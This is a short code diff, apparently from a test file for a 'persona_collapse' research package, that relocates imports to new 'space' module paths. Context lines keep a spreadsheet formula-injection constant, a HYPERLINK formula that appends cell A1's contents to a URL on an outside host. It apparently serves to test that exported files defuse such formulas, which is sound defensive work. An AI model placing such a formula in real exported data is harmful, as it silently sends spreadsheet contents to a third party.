@@ -5,12 +5,13 @@ import io
 
 import pyarrow.parquet as parquet
 
-from job import JobFolder, Run
 from persona_collapse.backends import Reply
 from persona_collapse.instruments import self_introduction
 from persona_collapse.personas import bundled_pool
 from persona_collapse.study import Study, run_study
-from results import _answers
+from space.asking.runs import Run
+from space.desk.job_folder import JobFolder
+from space.desk.result_files import _answers
 
 FORMULA = '=HYPERLINK("http://a.org?"&A1)'
 
